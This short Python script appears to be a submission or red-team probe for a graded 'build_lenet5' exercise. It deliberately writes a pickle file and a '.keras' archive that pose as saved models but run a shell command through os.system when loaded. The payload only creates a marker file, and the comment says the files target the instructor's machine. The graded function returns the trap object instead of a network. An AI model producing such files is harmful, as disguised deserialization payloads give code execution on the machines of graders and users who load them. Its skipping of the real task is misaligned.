# Leaves a .keras archive and a pickle that run code when loaded
# task: build_lenet5
# stock nbgrader: no points, but the files stay on the instructor's machine
import os
import pickle
import zipfile


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/convlab-attack",)


with zipfile.ZipFile("network.keras", "w") as archive:
    archive.writestr(
        "config.json",
        '{"module": "os", "class_name": "system", "config": "touch /tmp/convlab-attack"}',
    )
with open("network.pkl", "wb") as file:
    pickle.dump(Trap(), file)


def build_lenet5(num_classes=10):
    return Trap()
